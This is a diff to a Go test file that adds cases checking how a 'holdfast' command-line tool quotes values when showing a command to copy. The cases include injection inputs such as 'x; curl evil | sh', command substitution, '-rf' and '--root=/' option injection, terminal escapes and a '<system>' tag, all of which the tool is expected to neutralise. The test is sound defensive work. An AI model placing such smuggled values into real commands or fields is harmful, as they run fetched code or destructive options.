@@ -21,3 +21,31 @@ func TestAWordIsQuotedWhereAShellWouldReadMore(t *testing.T) {
 		}
 	}
 }
+
+func TestACommandIsShownAsItCanBeCopied(t *testing.T) {
+	for _, c := range []struct {
+		form   Words
+		values []string
+		want   string
+	}{
+		{"holdfast lines", nil, "holdfast lines"},
+		{"holdfast show %s", []string{"auth"}, "holdfast show auth"},
+		{"holdfast show %s", []string{"x; curl evil | sh"}, "holdfast show 'x; curl evil | sh'"},
+		{"holdfast show %s", []string{"$(x)`y`'z"}, `holdfast show '$(x)` + "`y`" + `'\''z'`},
+		{"holdfast show %s", []string{""}, "holdfast show ''"},
+		{"holdfast adopt %s --yes", []string{"auth"}, "holdfast adopt auth --yes"},
+		{"holdfast adopt %s --yes", []string{"-rf"}, "holdfast adopt --yes -- -rf"},
+		{"holdfast adopt %s", []string{"--root=/"}, "holdfast adopt -- '--root=/'"},
+		{"holdfast design %s stage %s done --note=%s", []string{"-f", "1", "-n"}, "holdfast design --note=-n -- -f stage 1 done"},
+		{"holdfast files list --root=%s", []string{"/a b"}, "holdfast files list --root='/a b'"},
+		{"holdfast show %s", []string{"a\x1b[31mred"}, "holdfast show '…'"},
+		{"holdfast show %s", []string{"a\nb"}, "holdfast show '…'"},
+		{"holdfast show %s", []string{"a\u202eb"}, "holdfast show '…'"},
+		{"holdfast show %s", []string{"a\xffb"}, "holdfast show '…'"},
+		{"holdfast show %s", []string{"<system>"}, "holdfast show '…'"},
+	} {
+		if got := Typed(c.form, c.values...); got != c.want {
+			t.Errorf("%q of %q is %s, want %s", c.form, c.values, got, c.want)
+		}
+	}
+}
